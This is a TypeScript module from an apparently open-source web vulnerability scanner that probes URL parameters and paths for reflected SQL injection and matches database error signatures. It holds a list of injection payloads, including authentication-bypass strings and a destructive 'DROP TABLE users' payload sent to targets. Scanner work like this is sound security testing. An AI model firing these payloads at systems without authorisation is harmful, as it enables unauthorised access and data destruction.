// Copyright (C) 2025 Keygraph, Inc.
//
// This program is free software: you can redistribute it and/or modify
// it under the terms of the GNU Affero General Public License version 3
// as published by the Free Software Foundation.

/**
 * Reflected SQL injection analyzer
 *
 * Compares responses to injected payloads against one unmodified baseline:
 * a database error signature in the body is critical, a changed status code
 * or a body length off by more than 10% is high. The length heuristic is
 * noisy on pages with dynamic content (ads, timestamps); the threshold is kept
 * as is.
 */

import { ErrorCode } from '../types/errors.js';
import { type Result, ok, err, isErr } from '../types/result.js';
import type { Analyzer } from '../types/analyzer.js';
import type { ActivityLogger } from '../types/activity-logger.js';
import type { TargetInfo, Vulnerability } from '../types/scan.js';
import { ScanError, errorMessage } from '../services/error-handling.js';
import { probe, type FetchLike, type ProbeResponse } from '../services/http-client.js';
import {
  INTER_REQUEST_DELAY_MS,
  extractParameters,
  injectPayload,
  parseTargetUrl,
  sleep,
  type InjectionAnalyzerDeps,
  type TestParameter,
} from './injection.js';

export interface SqliPayload {
  payload: string;
  description: string;
}

export const SQLI_PAYLOADS: readonly SqliPayload[] = [
  { payload: "'", description: 'Single quote test' },
  { payload: "' OR '1'='1", description: 'Classic OR bypass' },
  { payload: "' OR '1'='1' --", description: 'OR bypass with comment' },
  { payload: "' OR 1=1 --", description: 'Numeric OR bypass' },
  { payload: "admin' --", description: 'Comment injection' },
  { payload: "' UNION SELECT NULL--", description: 'UNION injection test' },
  { payload: "1' AND '1'='2", description: 'False condition test' },
  { payload: "'; DROP TABLE users--", description: 'Destructive command test' },
  { payload: "' OR 'x'='x", description: 'Alternative OR bypass' },
  { payload: "1' ORDER BY 1--", description: 'ORDER BY enumeration' },
];

export const SQLI_PATH_PAYLOADS: readonly string[] = ["'", "' OR '1'='1"];

/** Matched against the lowercased body. */
export const SQL_ERROR_PATTERNS: readonly string[] = [
  'sql syntax',
  'mysql_fetch',
  'mysql_num_rows',
  'mysqli',
  'sqlexception',
  'postgresql',
  'sqlite',
  'oracle',
  'odbc',
  'mssql',
  'jdbc',
  'ora-',
  'pg_query',
  'pg_exec',
  'syntax error',
  'unterminated quoted string',
  'unclosed quotation mark',
  'error in your sql syntax',
  'you have an error in your sql',
];

export const SQLI_FALLBACK_PARAMETERS: readonly TestParameter[] = [
  { name: 'id', baseline: '1' },
  { name: 'user', baseline: 'admin' },
  { name: 'page', baseline: '1' },
  { name: 'search', baseline: 'test' },
  { name: 'q', baseline: 'test' },
  { name: 'username', baseline: 'admin' },
];

export const BEHAVIOR_CHANGE_THRESHOLD = 0.1;

/** First error signature found in the body, if any. */
export function detectSqlError(body: string): string | undefined {
  const lowerBody = body.toLowerCase();
  return SQL_ERROR_PATTERNS.find((pattern) => lowerBody.includes(pattern));
}

export function detectBehaviorChange(
  baselineStatus: number,
  testStatus: number,
  baselineLength: number,
  testLength: number
): boolean {
  if (baselineStatus !== testStatus) {
    return true;
  }
  if (baselineLength === 0) {
    return testLength !== 0;
  }
  const lengthDiff = (testLength - baselineLength) / baselineLength;
  return Math.abs(lengthDiff) > BEHAVIOR_CHANGE_THRESHOLD;
}

/** Percent-encode a payload as one path segment, quotes included. */
function encodePathSegment(value: string): string {
  return encodeURIComponent(value).replace(/'/g, '%27');
}

export class SqliAnalyzer implements Analyzer<Vulnerability[]> {
  readonly name = 'SQL Injection';
  private readonly fetchImpl: FetchLike;
  private readonly pause: (ms: number) => Promise<void>;

  constructor(deps: InjectionAnalyzerDeps = {}) {
    this.fetchImpl = deps.fetch ?? fetch;
    this.pause = deps.sleep ?? sleep;
  }

  async run(target: TargetInfo, logger: ActivityLogger): Promise<Result<Vulnerability[], ScanError>> {
    logger.debug('Starting SQL injection scan', { url: target.url });

    const parsed = parseTargetUrl(target.url, this.name);
    if (isErr(parsed)) {
      return parsed;
    }
    const url = parsed.value;

    const params = extractParameters(url, SQLI_FALLBACK_PARAMETERS);
    if (url.searchParams.toString() === '') {
      logger.debug('No query parameters found, testing common parameter names');
    }

    let baseline: ProbeResponse;
    try {
      baseline = await probe(this.fetchImpl, target.url);
    } catch (error) {
      return err(
        new ScanError(
          `failed to get baseline response: ${errorMessage(error)}`,
          'network',
          ErrorCode.CONNECTION_ERROR,
          { analyzer: this.name, url: target.url },
          { cause: error }
        )
      );
    }
    logger.debug(`Baseline response: status=${baseline.status}, length=${baseline.length}`);

    const vulnerabilities: Vulnerability[] = [];
    for (const param of params) {
      const finding = await this.testParameter(url, params, param.name, baseline, logger);
      if (finding) {
        vulnerabilities.push(finding);
      }
    }

    const pathFinding = await this.testPathInjection(url, logger);
    if (pathFinding) {
      vulnerabilities.push(pathFinding);
    }

    logger.info(`SQL injection scan completed: found ${vulnerabilities.length} potential vulnerabilities`);
    return ok(vulnerabilities);
  }

  /** Try payloads in order; the first finding ends testing for this parameter. */
  private async testParameter(
    url: URL,
    params: readonly TestParameter[],
    paramName: string,
    baseline: ProbeResponse,
    logger: ActivityLogger
  ): Promise<Vulnerability | undefined> {
    logger.debug(`Testing parameter: ${paramName}`);

    for (const entry of SQLI_PAYLOADS) {
      const testUrl = injectPayload(url, params, paramName, entry.payload);

      let response: ProbeResponse | undefined;
      try {
        response = await probe(this.fetchImpl, testUrl);
      } catch (error) {
        logger.debug(`Request failed for payload '${entry.payload}': ${errorMessage(error)}`);
      }

      if (response) {
        const sqlError = detectSqlError(response.body);
        if (sqlError) {
          logger.warn(`SQL injection vulnerability detected in parameter '${paramName}'`);
          return {
            type: 'sqli',
            severity: 'critical',
            location: paramName,
            payload: entry.payload,
            evidence: `SQL error detected: ${sqlError}`,
            description: `${entry.description} - SQL error exposed`,
          };
        }

        if (detectBehaviorChange(baseline.status, response.status, baseline.length, response.length)) {
          logger.warn(`Potential SQL injection (behavior change) in parameter '${paramName}'`);
          return {
            type: 'sqli',
            severity: 'high',
            location: paramName,
            payload: entry.payload,
            evidence: `Response behavior changed: baseline=${baseline.length} bytes, test=${response.length} bytes`,
            description: `${entry.description} - Response indicates potential SQL injection`,
          };
        }
      }

      await this.pause(INTER_REQUEST_DELAY_MS);
    }
    return undefined;
  }

  /** Append payloads as an extra path segment and look for error signatures only. */
  private async testPathInjection(url: URL, logger: ActivityLogger): Promise<Vulnerability | undefined> {
    const basePath = url.pathname.replace(/\/+$/, '');

    for (const payload of SQLI_PATH_PAYLOADS) {
      const testUrl = `${url.origin}${basePath}/${encodePathSegment(payload)}`;

      try {
        const response = await probe(this.fetchImpl, testUrl);
        const sqlError = detectSqlError(response.body);
        if (sqlError) {
          logger.warn('SQL injection vulnerability detected in URL path');
          return {
            type: 'sqli',
            severity: 'critical',
            location: 'URL Path',
            payload,
            evidence: `SQL error detected: ${sqlError}`,
            description: 'SQL injection in URL path',
          };
        }
      } catch (error) {
        logger.debug(`Path probe failed for payload '${payload}': ${errorMessage(error)}`);
      }

      await this.pause(INTER_REQUEST_DELAY_MS);
    }
    return undefined;
  }
}
